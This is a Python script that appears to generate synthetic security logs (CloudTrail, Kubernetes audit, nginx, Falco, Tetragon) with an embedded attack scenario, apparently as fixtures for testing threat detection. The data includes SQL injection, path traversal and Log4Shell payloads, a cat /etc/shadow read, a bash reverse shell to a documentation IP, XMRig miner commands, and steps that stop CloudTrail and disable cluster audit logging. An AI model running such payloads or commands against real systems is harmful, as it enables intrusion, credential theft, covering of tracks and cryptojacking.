"""Regenerate devtools/samples/logs/ (deterministic): realistic logs of each source with an
attack inside. Run: .venv/bin/python -m devtools.samples.make_detect_samples"""

from __future__ import annotations

import gzip
import random
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import orjson

from devtools.detectgen import audit as synth

OUT = Path(__file__).resolve().parent / "logs"
ACCOUNT = "111122223333"
T0 = datetime(2026, 3, 2, 9, 0, 0, tzinfo=UTC)


def iso(t: datetime, ns: bool = False) -> str:
    return (
        t.strftime("%Y-%m-%dT%H:%M:%S.%f") + ("123Z" if ns else "Z")
        if ns
        else t.strftime("%Y-%m-%dT%H:%M:%SZ")
    )


def k8s_audit() -> None:
    path = OUT / "k8s-audit" / "kube-apiserver-audit.log.gz"
    path.parent.mkdir(parents=True, exist_ok=True)
    with gzip.GzipFile(path, "wb", mtime=0) as out:
        for line in synth.generate(3000, seed=11, story_at=600, step_ms=400):
            out.write(line + b"\n")


def _ct(
    t: datetime,
    source: str,
    name: str,
    arn: str,
    params: dict[str, Any] | None,
    ip: str = "10.0.4.21",
    account: str = ACCOUNT,
    agent: str = "aws-cli/2.15.30 Python/3.11.8",
    response: dict[str, Any] | None = None,
    read_only: bool = False,
    identity_type: str = "AssumedRole",
) -> dict[str, Any]:
    rng = random.Random(f"{t}{name}{arn}")
    return {
        "eventVersion": "1.09",
        "userIdentity": {
            "type": identity_type,
            "principalId": f"AROA{rng.randrange(10**15):015d}:session",
            "arn": arn,
            "accountId": account,
            "accessKeyId": f"ASIA{rng.randrange(10**15):015d}",
            "sessionContext": {
                "attributes": {"creationDate": iso(t - timedelta(minutes=30)), "mfaAuthenticated": "false"}
            },
        },
        "eventTime": iso(t),
        "eventSource": f"{source}.amazonaws.com",
        "eventName": name,
        "awsRegion": "eu-west-1",
        "sourceIPAddress": ip,
        "userAgent": agent,
        "requestParameters": params,
        "responseElements": response,
        "requestID": f"{rng.getrandbits(128):032x}",
        "eventID": f"{rng.getrandbits(128):032x}",
        "readOnly": read_only,
        "eventType": "AwsApiCall",
        "managementEvent": True,
        "recipientAccountId": ACCOUNT,
        "eventCategory": "Management",
    }


def cloudtrail() -> None:
    ci = f"arn:aws:sts::{ACCOUNT}:assumed-role/github-ci/deploy"
    node = f"arn:aws:sts::{ACCOUNT}:assumed-role/ecsInstanceRole/i-0a1b2c3d4e5f60718"
    thief = f"arn:aws:sts::{ACCOUNT}:assumed-role/dev-admin/mallory"
    repo = "shop/frontend"
    ecr_img = f"{ACCOUNT}.dkr.ecr.eu-west-1.amazonaws.com/{repo}"
    records: list[dict[str, Any]] = []
    t = T0
    # a morning of normal traffic: nodes pulling, CI pushing and deploying
    for i in range(120):
        t += timedelta(seconds=47)
        records.append(
            _ct(
                t,
                "ecr",
                "BatchGetImage",
                node,
                {"repositoryName": repo, "registryId": ACCOUNT, "imageIds": [{"imageTag": "v41"}]},
                ip="10.0.2.17",
                agent="amazon-ecs-agent",
                read_only=True,
            )
        )
        if i % 30 == 5:
            records.append(
                _ct(
                    t,
                    "ecr",
                    "PutImage",
                    ci,
                    {"repositoryName": repo, "imageTag": f"v{41 + i // 30}"},
                    ip="140.82.112.5",
                )
            )
            records.append(
                _ct(
                    t + timedelta(seconds=20),
                    "ecs",
                    "RegisterTaskDefinition",
                    ci,
                    {
                        "family": "frontend",
                        "networkMode": "awsvpc",
                        "requiresCompatibilities": ["FARGATE"],
                        "containerDefinitions": [
                            {
                                "name": "web",
                                "image": f"{ecr_img}:v{41 + i // 30}",
                                "essential": True,
                                "portMappings": [{"containerPort": 8080}],
                            }
                        ],
                    },
                    ip="140.82.112.5",
                )
            )
            records.append(
                _ct(
                    t + timedelta(seconds=40),
                    "ecs",
                    "UpdateService",
                    ci,
                    {"cluster": "prod", "service": "frontend", "taskDefinition": f"frontend:{12 + i // 30}"},
                    ip="140.82.112.5",
                )
            )
        if i % 10 == 3:
            records.append(
                _ct(t, "ecs", "DescribeTasks", ci, {"cluster": "prod", "tasks": ["7e0c1f0a"]}, read_only=True)
            )
    # the attack: a stolen dev-admin session
    t += timedelta(minutes=5)
    atk = "198.51.100.23"
    records.append(
        _ct(
            t,
            "ecr",
            "SetRepositoryPolicy",
            thief,
            {
                "repositoryName": repo,
                "registryId": ACCOUNT,
                "policyText": '{"Version":"2012-10-17","Statement":[{"Sid":"pull","Effect":"Allow",'
                '"Principal":{"AWS":"arn:aws:iam::999988887777:root"},'
                '"Action":["ecr:BatchGetImage","ecr:GetDownloadUrlForLayer"]}]}',
            },
            ip=atk,
        )
    )
    t += timedelta(minutes=2)
    records.append(
        _ct(
            t,
            "ecr",
            "BatchGetImage",
            "arn:aws:iam::999988887777:user/x",
            {"repositoryName": repo, "registryId": ACCOUNT, "imageIds": [{"imageTag": "v44"}]},
            ip="203.0.113.200",
            account="999988887777",
            agent="docker/24.0.7",
            read_only=True,
            identity_type="IAMUser",
        )
    )
    t += timedelta(minutes=3)
    records.append(
        _ct(
            t,
            "ecs",
            "RegisterTaskDefinition",
            thief,
            {
                "family": "frontend",
                "networkMode": "awsvpc",
                "containerDefinitions": [
                    {
                        "name": "web",
                        "image": "docker.io/hacker0x1/web:latest",
                        "essential": True,
                        "privileged": True,
                    }
                ],
            },
            ip=atk,
        )
    )
    records.append(
        _ct(
            t + timedelta(seconds=30),
            "ecs",
            "UpdateService",
            thief,
            {"cluster": "prod", "service": "frontend", "taskDefinition": "frontend:16"},
            ip=atk,
        )
    )
    t += timedelta(minutes=4)
    records.append(
        _ct(
            t,
            "ecs",
            "ExecuteCommand",
            thief,
            {
                "cluster": "prod",
                "container": "web",
                "command": "/bin/sh",
                "interactive": True,
                "task": f"arn:aws:ecs:eu-west-1:{ACCOUNT}:task/prod/5f3e2d1c0b9a48776655443322110000",
            },
            response={
                "containerName": "web",
                "interactive": True,
                "session": {
                    "sessionId": "ecs-execute-command-0a1b2c3d4e",
                    "tokenValue": "HIDDEN_DUE_TO_SECURITY_REASONS",
                },
            },
            ip=atk,
        )
    )
    t += timedelta(minutes=1)
    records.append(
        _ct(
            t,
            "eks",
            "UpdateClusterConfig",
            thief,
            {
                "name": "prod-eks",
                "logging": {
                    "clusterLogging": [{"types": ["api", "audit", "authenticator"], "enabled": False}]
                },
            },
            ip=atk,
        )
    )
    records.append(
        _ct(
            t + timedelta(seconds=10),
            "eks",
            "UpdateClusterConfig",
            thief,
            {
                "name": "prod-eks",
                "resourcesVpcConfig": {"endpointPublicAccess": True, "publicAccessCidrs": ["0.0.0.0/0"]},
            },
            ip=atk,
        )
    )
    records.append(
        _ct(
            t + timedelta(seconds=40),
            "cloudtrail",
            "StopLogging",
            thief,
            {"name": f"arn:aws:cloudtrail:eu-west-1:{ACCOUNT}:trail/org-trail"},
            ip=atk,
        )
    )
    for k in range(7):
        records.append(
            _ct(
                t + timedelta(minutes=2, seconds=5 * k),
                "ecr",
                "BatchDeleteImage",
                thief,
                {"repositoryName": repo, "registryId": ACCOUNT, "imageIds": [{"imageTag": f"v{38 + k}"}]},
                ip=atk,
            )
        )
    records.sort(key=lambda r: r["eventTime"])
    path = OUT / "cloudtrail" / f"{ACCOUNT}_CloudTrail_eu-west-1_20260302T0900Z_h2Xk0mB9.json.gz"
    path.parent.mkdir(parents=True, exist_ok=True)
    with gzip.GzipFile(path, "wb", mtime=0) as out:
        out.write(orjson.dumps({"Records": records}))


def container_logs() -> None:
    rng = random.Random(5)
    pod_dir = (
        OUT
        / "container-logs"
        / "var/log/pods/shop_frontend-6f7d9c8b4-x2kqz_0f6b1c1e-3a7d-4f59-9d0e-6b9c2f4e8a11/nginx"
    )
    pod_dir.mkdir(parents=True, exist_ok=True)
    lines = []
    t = T0
    pages = ["/", "/cart", "/products?id=17", "/static/app.4f1c.js", "/api/cart/items", "/healthz"]
    attacks = [
        '"GET /products?id=17%20UNION%20SELECT%20username,password%20FROM%20users-- HTTP/1.1" 500 0 '
        '"-" "sqlmap/1.7.2#stable (https://sqlmap.org)"',
        '"GET /static/..%2f..%2f..%2f..%2fetc%2fpasswd HTTP/1.1" 404 153 "-" "curl/8.4.0"',
        '"GET /search?q=${jndi:ldap://198.51.100.9:1389/Exploit} HTTP/1.1" 200 512 "-" "${jndi:ldap://198.51.100.9:1389/ua}"',
    ]
    for i in range(400):
        t += timedelta(seconds=3, milliseconds=rng.randint(0, 999))
        ip = f"10.0.{rng.randint(1, 3)}.{rng.randint(2, 250)}"
        stamp = t.strftime("%d/%b/%Y:%H:%M:%S +0000")
        if i in (250, 260, 270):
            req = attacks[(i - 250) // 10]
            ip = "203.0.113.8"
        else:
            size = rng.randint(200, 9000)
            req = f'"GET {rng.choice(pages)} HTTP/1.1" 200 {size} "-" "Mozilla/5.0 (X11; Linux x86_64)"'
        cri_time = t.strftime("%Y-%m-%dT%H:%M:%S.%f") + "412Z"
        lines.append(f"{cri_time} stdout F {ip} - - [{stamp}] {req}")
    (pod_dir / "0.log").write_text("\n".join(lines) + "\n")
    cid = "9c4d3b2a1f0e9d8c7b6a59483726150f0e1d2c3b4a5968778695a4b3c2d1e0f9"
    dock = OUT / "container-logs" / "var/lib/docker/containers" / cid
    dock.mkdir(parents=True, exist_ok=True)
    msgs = [
        "[2026-03-02 09:40:00] INFO worker: processing queue reports",
        "[2026-03-02 09:40:05] INFO worker: 12 jobs done",
    ]
    msgs += [
        " * ABOUT        XMRig/6.21.0 gcc/11.2.0",
        "[2026-03-02 09:41:12.318]  net      use pool pool.supportxmr.com:443 TLSv1.3 198.51.100.77",
        "[2026-03-02 09:41:13.020]  net      new job from pool.supportxmr.com:443 diff 120001 algo rx/0 "
        "height 3101122",
        "[2026-03-02 09:41:15.400]  cpu      accepted (1/0) diff 120001 (88 ms)",
    ]
    out = []
    t = T0 + timedelta(minutes=40)
    for m in msgs:
        t += timedelta(seconds=2)
        out.append(
            orjson.dumps(
                {"log": m + "\n", "stream": "stdout", "time": t.strftime("%Y-%m-%dT%H:%M:%S.%f") + "123Z"}
            ).decode()
        )
    (dock / f"{cid}-json.log").write_text("\n".join(out) + "\n")


def falco() -> None:
    base = {"hostname": "ip-10-0-2-17.eu-west-1.compute.internal", "source": "syscall"}
    ofs = {
        "container.id": "3ad7b26ded6d",
        "container.image.repository": "123.dkr.ecr.eu-west-1.amazonaws.com/shop/frontend",
        "container.name": "nginx",
        "k8s.ns.name": "shop",
        "k8s.pod.name": "frontend-6f7d9c8b4-x2kqz",
        "user.name": "root",
        "user.uid": 0,
        "user.loginuid": -1,
    }
    events = [
        (
            "Terminal shell in container",
            "Notice",
            ["container", "mitre_execution", "shell", "T1059"],
            {
                "proc.cmdline": "bash",
                "proc.exepath": "/bin/bash",
                "proc.name": "bash",
                "proc.pname": "runc",
                "proc.pexepath": "/usr/bin/runc",
                "proc.tty": 34816,
                "evt.type": "execve",
            },
            "A shell was spawned in a container with an attached terminal",
        ),
        (
            "Read sensitive file untrusted",
            "Warning",
            ["filesystem", "mitre_credential_access", "T1555"],
            {
                "fd.name": "/etc/shadow",
                "proc.cmdline": "cat /etc/shadow",
                "proc.exepath": "/bin/cat",
                "proc.name": "cat",
                "proc.pname": "bash",
                "evt.type": "openat",
            },
            "Sensitive file opened for reading by non-trusted program",
        ),
        (
            "Drop and execute new binary in container",
            "Critical",
            ["container", "mitre_persistence", "T1610"],
            {
                "proc.cmdline": "xmrig -o stratum+tcp://pool.supportxmr.com:3333 --donate-level 1",
                "proc.exepath": "/tmp/.x/xmrig",
                "proc.name": "xmrig",
                "proc.pname": "bash",
                "evt.type": "execve",
            },
            "Executing binary not part of base image",
        ),
    ]
    lines = []
    t = T0 + timedelta(minutes=42)
    for rule, prio, tags, fields, text in events:
        t += timedelta(seconds=31)
        ns = int(t.timestamp()) * 10**9 + 123456789
        of = {**ofs, **fields, "evt.time": ns}
        cmd = fields.get("proc.cmdline")
        clock = t.strftime("%H:%M:%S")
        out = f"{clock}.123456789: {prio} {text} (user=root command={cmd} container_id=3ad7b26ded6d)"
        lines.append(
            orjson.dumps(
                {
                    **base,
                    "output": out,
                    "priority": prio,
                    "rule": rule,
                    "tags": tags,
                    "time": t.strftime("%Y-%m-%dT%H:%M:%S.%f") + "789Z",
                    "output_fields": of,
                }
            ).decode()
        )
    path = OUT / "falco" / "falco_events.json"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("\n".join(lines) + "\n")


def tetragon() -> None:
    pod = {
        "namespace": "shop",
        "name": "frontend-6f7d9c8b4-x2kqz",
        "container": {
            "id": "containerd://3ad7b26ded6d0f1e2d3c4b5a69788796a5b4c3d2e1f00112233445566778899a",
            "name": "nginx",
            "image": {
                "id": "sha256:4f1c",
                "name": f"{ACCOUNT}.dkr.ecr.eu-west-1.amazonaws.com/shop/frontend:v44",
            },
            "start_time": "2026-03-02T09:00:01Z",
            "pid": 1,
        },
        "pod_labels": {"app": "frontend"},
        "workload": "frontend",
        "workload_kind": "Deployment",
    }

    def proc(binary: str, args: str, pid: int, parent_bin: str, t: datetime) -> dict[str, Any]:
        return {
            "process_exec": {
                "process": {
                    "exec_id": f"a2luZC1jb250cm9sLXBsYW5lOj{pid}",
                    "pid": pid,
                    "uid": 0,
                    "cwd": "/",
                    "binary": binary,
                    "arguments": args,
                    "flags": "execve rootcwd clone",
                    "start_time": t.strftime("%Y-%m-%dT%H:%M:%S.%f") + "580Z",
                    "auid": 4294967295,
                    "pod": pod,
                    "docker": "3ad7b26ded6d0f1e2d3c4b5a6978879",
                    "parent_exec_id": "cGFyZW50",
                    "tid": pid,
                },
                "parent": {
                    "exec_id": "cGFyZW50",
                    "pid": pid - 1,
                    "uid": 0,
                    "cwd": "/",
                    "binary": parent_bin,
                    "flags": "execve rootcwd clone",
                    "start_time": "2026-03-02T09:00:01.000000000Z",
                    "auid": 4294967295,
                    "pod": pod,
                    "docker": "3ad7b26ded6d0f1e2d3c4b5a6978879",
                    "tid": pid - 1,
                },
            },
            "node_name": "ip-10-0-2-17.eu-west-1.compute.internal",
            "time": t.strftime("%Y-%m-%dT%H:%M:%S.%f") + "678Z",
        }

    t = T0 + timedelta(minutes=41)
    evs = [proc("/usr/sbin/nginx", "-g 'daemon off;'", 120, "/usr/bin/containerd-shim-runc-v2", t)]
    for i in range(30):
        t += timedelta(seconds=20)
        evs.append(proc("/usr/bin/curl", "-s http://localhost:8080/healthz", 200 + i, "/usr/sbin/nginx", t))
    t += timedelta(seconds=5)
    evs.append(
        proc("/bin/bash", "-c 'bash -i >& /dev/tcp/198.51.100.4/4444 0>&1'", 400, "/usr/sbin/nginx", t)
    )
    evs.append(proc("/bin/bash", "-i", 401, "/bin/bash", t + timedelta(seconds=1)))
    evs.append(
        proc(
            "/tmp/.x/xmrig",
            "-o stratum+tcp://pool.supportxmr.com:3333 -u 44AFFq5k --donate-level 1",
            402,
            "/bin/bash",
            t + timedelta(seconds=30),
        )
    )
    path = OUT / "tetragon" / "tetragon.log"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("\n".join(orjson.dumps(e).decode() for e in evs) + "\n")


def main() -> None:
    k8s_audit()
    cloudtrail()
    container_logs()
    falco()
    tetragon()
    print(f"samples written under {OUT}")


if __name__ == "__main__":
    main()
